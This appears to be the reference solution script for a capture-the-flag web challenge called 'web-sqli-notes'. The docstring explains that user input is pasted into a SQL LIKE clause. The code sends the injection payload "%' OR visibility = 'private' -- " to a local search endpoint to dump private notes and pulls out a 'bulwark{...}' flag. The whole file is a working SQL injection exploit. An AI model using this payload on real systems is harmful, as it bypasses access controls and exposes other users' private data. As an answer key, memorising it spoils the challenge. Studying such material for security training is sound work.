"""Reference solution for web-sqli-notes: the search term is pasted into
`... AND title LIKE '%TERM%'`, so closing the string and adding
`OR visibility = 'private'` (with the rest commented out) lists the private
notes too, which the service decrypts for display."""
import re
import sys
import urllib.parse
import urllib.request

BASE = "http://127.0.0.1:8080"


def main() -> int:
    term = "%' OR visibility = 'private' -- "
    url = f"{BASE}/search?q={urllib.parse.quote(term)}"
    page = urllib.request.urlopen(url, timeout=10).read().decode()
    found = re.search(r"bulwark\{[^}\s<]+\}", page)
    if not found:
        print(f"no flag in the search results: {page[:500]}", file=sys.stderr)
        return 1
    print(found.group())
    return 0


if __name__ == "__main__":
    sys.exit(main())
